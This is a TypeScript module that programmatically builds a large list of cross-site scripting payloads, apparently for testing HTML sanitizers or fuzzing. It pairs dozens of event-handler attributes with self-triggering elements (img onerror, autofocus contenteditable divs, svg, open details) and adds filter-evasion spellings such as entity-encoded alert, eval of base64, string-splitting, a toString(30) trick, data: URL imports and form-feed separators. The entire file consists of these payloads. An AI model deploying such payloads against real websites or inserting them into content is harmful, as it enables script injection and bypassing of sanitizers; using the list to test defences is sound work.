import { RUN } from './spellings.ts'

const EVENTS =
  'load error click dblclick mouseover mouseenter mousemove mousedown mouseup pointerover pointerenter pointerdown pointermove touchstart touchend wheel scroll scrollend ' +
  'focus focusin blur input change beforeinput select copy cut paste keydown keyup toggle beforetoggle beforematch animationstart animationend animationiteration ' +
  'transitionrun transitionstart transitionend transitioncancel begin end repeat start finish bounce loadstart loadeddata loadedmetadata canplay play playing timeupdate ' +
  'volumechange hashchange popstate pageshow pagehide message storage unload beforeunload resize invalid submit reset search formdata cancel close cuechange ' +
  'contextmenu drag dragstart drop gotpointercapture securitypolicyviolation slotchange webkitanimationstart contentvisibilityautostatechange'

/** Each event at an element that can bring it about by itself or at a touch. */
const CARRIERS: readonly ((handler: string) => string)[] = [
  (on) => `<img src=x ${on}>`,
  (on) => `<div tabindex=1 autofocus contenteditable ${on}>x</div>`,
  (on) => `<svg ${on}><circle r=9 ${on}></circle></svg>`,
  (on) => `<details open ${on}><summary ${on}>x</summary></details>`,
]

/** An attribute written in the ways in which a parser still reads it as one. */
const SPELLED: readonly string[] = [
  `onerror=${RUN}`,
  `ONERROR=${RUN}`,
  `/onerror=${RUN}`,
  `"onerror=${RUN}`,
  `\u000conerror=${RUN}`,
  `onerror\n=\n${RUN}`,
  `onerror="${RUN}"`,
  `onerror='${RUN}'`,
  'onerror=`alert\u00281)`',
  'onerror=alert`1`',
  'onerror=&#97;lert(1)',
  'onerror=&#x61;&#x6c;&#x65;&#x72;&#x74;(1)',
  'onerror=window["al"+"ert"](1)',
  'onerror=top[8680439..toString(30)](1)',
  'onerror=eval(atob("YWxlcnQoMSk="))',
  'onerror=location="javascript:alert(1)"',
  'onerror=setTimeout("alert(1)")',
  'onerror=import("data:text/javascript,alert(1)")',
  `alt=\`x\` onerror=${RUN}`,
  `title="a>b" onerror=${RUN}`,
]

const ELEMENTS =
  'a abbr article audio body button canvas center code custom-tag dialog embed fieldset font form frameset h1 iframe input keygen label li link marquee meter object ol ' +
  'option p param picture pre progress q script section select source span strong style table td template textarea time tr track u ul video xss'

export const handlers: readonly string[] = [
  ...EVENTS.split(' ').flatMap((event) => CARRIERS.map((carry) => carry(`on${event}=${RUN}`))),
  ...SPELLED.flatMap((attribute) => [
    `<img src=x ${attribute}>`,
    `<p><img/src="x"${attribute}></p>`,
  ]),
  ...ELEMENTS.split(' ').map(
    (tag) => `<${tag} onclick=${RUN} onfocus=${RUN} onload=${RUN} autofocus tabindex=0>x</${tag}>`,
  ),
]
